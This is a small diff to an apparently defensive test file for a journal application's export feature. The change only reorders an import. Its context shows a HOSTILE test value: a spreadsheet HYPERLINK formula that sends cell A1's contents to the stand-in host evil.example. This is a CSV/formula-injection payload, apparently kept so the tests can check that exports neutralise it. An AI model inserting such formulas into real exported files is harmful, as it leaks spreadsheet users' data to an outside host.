@@ -12,7 +12,7 @@ from journal.export.material import Choice, gathered
 from journal.sessions.rows import Draft
 from tests.cast import check_in
 from tests.export.conftest import owner_of
-from tests.export.test_exports import taken_out, tables
+from tests.export.test_exports import tables, taken_out
 
 HOSTILE = {
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
